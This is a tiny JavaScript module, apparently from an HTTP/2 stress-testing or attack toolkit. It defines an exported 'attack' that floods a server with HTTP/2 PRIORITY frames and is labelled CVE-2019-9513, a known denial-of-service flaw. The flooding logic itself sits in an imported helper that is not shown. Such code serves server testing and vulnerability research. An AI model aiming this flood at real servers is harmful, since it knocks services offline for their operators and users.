import * as wire from '../http2/wire.js';
import { flood } from './flood.js';

/** CVE-2019-9513. */
export const attack = flood('PRIORITY flood', wire.frame(wire.PRIORITY, 0, 1, Buffer.alloc(5)));
